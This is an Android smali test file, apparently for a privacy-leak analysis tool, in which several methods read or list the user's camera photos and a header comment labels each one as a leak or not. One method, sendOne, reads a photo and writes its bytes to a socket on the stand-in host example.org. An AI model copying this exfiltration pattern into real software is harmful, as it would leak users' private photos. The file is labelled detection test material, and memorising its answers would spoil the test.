.class public Lcom/piflow/families/photo_files/Main;
.super Landroid/app/Activity;

# The user's photos read as files: a path or File naming the camera folder (DCIM) or Pictures on
# shared storage is a handle, not PI; listing it (the names of the photos) and opening a file in it
# (the photo) are the reads. Leaks: the names a listing of external storage + "/DCIM/Camera" returns
# (Main.listed), the names getExternalStoragePublicDirectory(DIRECTORY_DCIM).list() returns
# (Main.publicDir), a photo found by a listing of "/mnt/sdcard/dcim/", kept in a static list
# (Main.collect) and opened elsewhere by its path, sent to a socket (Main.sendOne), and a file under
# "/Pictures/" read through a FileInputStream (Main.opened). No leak: a listing of the app's own
# files dir (Main.ownFiles), a file read from the Download folder (Main.otherPath), the DCIM path
# itself logged (Main.pathOnly).

.field private static JPGS:Ljava/util/ArrayList;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .locals 0
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-direct {p0}, Lcom/piflow/families/photo_files/Main;->listed()V
    invoke-direct {p0}, Lcom/piflow/families/photo_files/Main;->publicDir()V
    invoke-static {}, Lcom/piflow/families/photo_files/Main;->collect()V
    invoke-direct {p0}, Lcom/piflow/families/photo_files/Main;->sendOne()V
    invoke-direct {p0}, Lcom/piflow/families/photo_files/Main;->opened()V
    invoke-direct {p0}, Lcom/piflow/families/photo_files/Main;->ownFiles()V
    invoke-direct {p0}, Lcom/piflow/families/photo_files/Main;->otherPath()V
    invoke-direct {p0}, Lcom/piflow/families/photo_files/Main;->pathOnly()V
    return-void
.end method

.method private static root()Ljava/lang/String;
    .locals 1
    invoke-static {}, Landroid/os/Environment;->getExternalStorageDirectory()Ljava/io/File;
    move-result-object v0
    invoke-virtual {v0}, Ljava/io/File;->getAbsolutePath()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method private listed()V
    .locals 4
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    invoke-static {}, Lcom/piflow/families/photo_files/Main;->root()Ljava/lang/String;
    move-result-object v1
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const-string v1, "/DCIM/Camera"
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    new-instance v2, Ljava/io/File;
    invoke-direct {v2, v1}, Ljava/io/File;-><init>(Ljava/lang/String;)V
    invoke-virtual {v2}, Ljava/io/File;->listFiles()[Ljava/io/File;
    move-result-object v2
    const/4 v3, 0x0
    aget-object v2, v2, v3
    invoke-virtual {v2}, Ljava/io/File;->getName()Ljava/lang/String;
    move-result-object v2
    const-string v3, "t"
    invoke-static {v3, v2}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method private publicDir()V
    .locals 2
    const-string v0, "DCIM"
    invoke-static {v0}, Landroid/os/Environment;->getExternalStoragePublicDirectory(Ljava/lang/String;)Ljava/io/File;
    move-result-object v0
    invoke-virtual {v0}, Ljava/io/File;->list()[Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0x0
    aget-object v0, v0, v1
    const-string v1, "t"
    invoke-static {v1, v0}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method private static collect()V
    .locals 5
    new-instance v0, Ljava/util/ArrayList;
    invoke-direct {v0}, Ljava/util/ArrayList;-><init>()V
    sput-object v0, Lcom/piflow/families/photo_files/Main;->JPGS:Ljava/util/ArrayList;
    new-instance v1, Ljava/io/File;
    const-string v2, "/mnt/sdcard/dcim/"
    invoke-direct {v1, v2}, Ljava/io/File;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1}, Ljava/io/File;->listFiles()[Ljava/io/File;
    move-result-object v1
    array-length v2, v1
    const/4 v3, 0x0
    :loop
    if-ge v3, v2, :done
    aget-object v4, v1, v3
    sget-object v0, Lcom/piflow/families/photo_files/Main;->JPGS:Ljava/util/ArrayList;
    invoke-virtual {v0, v4}, Ljava/util/ArrayList;->add(Ljava/lang/Object;)Z
    add-int/lit8 v3, v3, 0x1
    goto :loop
    :done
    return-void
.end method

.method private sendOne()V
    .locals 6
    sget-object v0, Lcom/piflow/families/photo_files/Main;->JPGS:Ljava/util/ArrayList;
    const/4 v1, 0x0
    invoke-virtual {v0, v1}, Ljava/util/ArrayList;->get(I)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Ljava/io/File;
    invoke-virtual {v0}, Ljava/io/File;->getPath()Ljava/lang/String;
    move-result-object v0
    new-instance v1, Ljava/io/FileInputStream;
    invoke-direct {v1, v0}, Ljava/io/FileInputStream;-><init>(Ljava/lang/String;)V
    const/16 v2, 0x400
    new-array v2, v2, [B
    invoke-virtual {v1, v2}, Ljava/io/FileInputStream;->read([B)I
    move-result v3
    new-instance v4, Ljava/net/Socket;
    const-string v5, "example.org"
    const/16 v0, 0x50
    invoke-direct {v4, v5, v0}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
    invoke-virtual {v4}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v4
    new-instance v5, Ljava/io/DataOutputStream;
    invoke-direct {v5, v4}, Ljava/io/DataOutputStream;-><init>(Ljava/io/OutputStream;)V
    const/4 v0, 0x0
    invoke-virtual {v5, v2, v0, v3}, Ljava/io/DataOutputStream;->write([BII)V
    return-void
.end method

.method private opened()V
    .locals 4
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    invoke-static {}, Lcom/piflow/families/photo_files/Main;->root()Ljava/lang/String;
    move-result-object v1
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const-string v1, "/Pictures/a.jpg"
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    new-instance v2, Ljava/io/FileInputStream;
    invoke-direct {v2, v1}, Ljava/io/FileInputStream;-><init>(Ljava/lang/String;)V
    const/16 v0, 0x400
    new-array v0, v0, [B
    invoke-virtual {v2, v0}, Ljava/io/FileInputStream;->read([B)I
    new-instance v1, Ljava/lang/String;
    invoke-direct {v1, v0}, Ljava/lang/String;-><init>([B)V
    const-string v3, "t"
    invoke-static {v3, v1}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method private ownFiles()V
    .locals 2
    invoke-virtual {p0}, Lcom/piflow/families/photo_files/Main;->getFilesDir()Ljava/io/File;
    move-result-object v0
    invoke-virtual {v0}, Ljava/io/File;->listFiles()[Ljava/io/File;
    move-result-object v0
    const/4 v1, 0x0
    aget-object v0, v0, v1
    invoke-virtual {v0}, Ljava/io/File;->getName()Ljava/lang/String;
    move-result-object v0
    const-string v1, "t"
    invoke-static {v1, v0}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method private otherPath()V
    .locals 4
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    invoke-static {}, Lcom/piflow/families/photo_files/Main;->root()Ljava/lang/String;
    move-result-object v1
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const-string v1, "/Download/notes.txt"
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    new-instance v2, Ljava/io/FileInputStream;
    invoke-direct {v2, v1}, Ljava/io/FileInputStream;-><init>(Ljava/lang/String;)V
    const/16 v0, 0x400
    new-array v0, v0, [B
    invoke-virtual {v2, v0}, Ljava/io/FileInputStream;->read([B)I
    new-instance v1, Ljava/lang/String;
    invoke-direct {v1, v0}, Ljava/lang/String;-><init>([B)V
    const-string v3, "t"
    invoke-static {v3, v1}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method private pathOnly()V
    .locals 2
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    invoke-static {}, Lcom/piflow/families/photo_files/Main;->root()Ljava/lang/String;
    move-result-object v1
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const-string v1, "/DCIM/Camera"
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    const-string v0, "t"
    invoke-static {v0, v1}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method
